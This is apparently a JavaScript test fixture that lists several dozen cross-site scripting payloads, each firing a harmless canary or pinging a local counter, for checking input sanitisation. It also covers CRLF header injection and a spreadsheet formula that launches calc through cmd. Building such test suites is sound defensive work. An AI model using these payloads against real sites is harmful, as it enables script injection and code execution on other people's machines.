// SPDX-License-Identifier: AGPL-3.0-or-later
// What somebody types who wants their text to run in another's browser. `n` numbers the payload, `hit` is the address of a
// server that counts requests: //127.0.0.1:PORT.

export const PAYLOADS = [
  // as elements
  (n) => `<script>__xss(${n})</script>`,
  (n) => `<img src=x onerror=__xss(${n})>`,
  (n) => `<svg onload=__xss(${n})>`,
  (n) => `<svg/onload=__xss(${n})//`,
  (n, hit) => `<xss-probe id=p${n}></xss-probe><img src="${hit}/${n}">`,
  (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe>`,
  (n) => `<details open ontoggle=__xss(${n})>`,
  (n) => `<input autofocus onfocus=__xss(${n})>`,
  (n) => `<video><source onerror=__xss(${n})></video>`,
  (n) => `<body onload=__xss(${n})>`,
  (n, hit) => `<style>@import'${hit}/${n}';</style>`,
  (n, hit) => `<link rel=stylesheet href="${hit}/${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:__xss(${n})">`,
  (n, hit) => `<base href="${hit}/${n}/">`,
  (n, hit) => `<object data="${hit}/${n}"></object>`,
  (n, hit) => `<embed src="${hit}/${n}">`,
  (n) => `<form action=javascript:__xss(${n})><button autofocus>x</button></form>`,
  // out of what they stand in
  (n) => `" onmouseover=__xss(${n}) x="`,
  (n) => `' autofocus onfocus=__xss(${n}) x='`,
  (n) => `"><img src=x onerror=__xss(${n})>`,
  (n) => `'><svg onload=__xss(${n})>`,
  (n) => '`><img src=x onerror=__xss(' + n + ')>`',
  (n, hit) => `" style="background:url(${hit}/${n})`,
  (n) => `</title><script>__xss(${n})</script>`,
  (n) => `</textarea><script>__xss(${n})</script>`,
  (n) => `</script><script>__xss(${n})</script>`,
  (n) => `--><script>__xss(${n})</script>`,
  (n) => `]]><script>__xss(${n})</script>`,
  (n) => `</style></option></select><img src=x onerror=__xss(${n})>`,
  (n) => `\\"};__xss(${n});//`,
  // as addresses
  (n) => `javascript:__xss(${n})`,
  (n) => `JaVaScRiPt:__xss(${n})`,
  (n) => `https://a.example/"onmouseover="__xss(${n})`,
  (n) => `java\tscript:__xss(${n})`,
  (n) => `javascript://%0a__xss(${n})`,
  (n) => `data:text/html,<script>__xss(${n})</script>`,
  (n) => `&#106;avascript:__xss(${n})`,
  // as Markdown
  (n) => `[x](javascript:__xss(${n}))`,
  (n, hit) => `![x](http:${hit}/${n})`,
  (n) => `<javascript:__xss(${n})>`,
  (n) => `[x](https://a.example" onmouseover="__xss(${n}))`,
  (n) => '```\n</code></pre><script>__xss(' + n + ')</script>',
  // as templates
  (n) => `{{constructor.constructor('__xss(${n})')()}}`,
  (n) => `\${__xss(${n})}<%= __xss(${n}) %>#{__xss(${n})}`,
  (n) => `{{v.name}}{{include csrf_field()}}<xss-probe id=p${n}>`,
  // that a browser changes while it reads
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__xss(${n})&gt;">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__xss(${n})>">`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=__xss(${n})>">`,
  (n) => `&lt;img src=x onerror=__xss(${n})&gt;`,
  // in other letters
  (n) => `+ADw-script+AD4-__xss(${n})+ADw-/script+AD4-`,
  (n) => `\uFF1Cscript\uFF1E__xss(${n})\uFF1C/script\uFF1E`,
  (n) => `\u202E<script>__xss(${n})</script>\u202C`,
  (n) => `\uFEFF\u200B<scr\u200Bipt>__xss(${n})</scr\u200Bipt>`,
  (n) => `<scr\0ipt>__xss(${n})</scr\0ipt>`,
  (n) => `\u2028\u2029<img src=x onerror=__xss(${n})>`,
  // over the end of the line, into another format
  (n) => `x${n}\r\nX-Injected: 1\r\n\r\n<script>__xss(${n})</script>`,
  (n) => `x${n}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-INJECTED:1`,
  (n) => `x${n}%0d%0aX-Injected:%201`,
  (n, hit) => `=HYPERLINK("http:${hit}/${n}";"x")`,
  (n) => `@SUM(1+1)*cmd|'/C calc'!A${n}`,
];
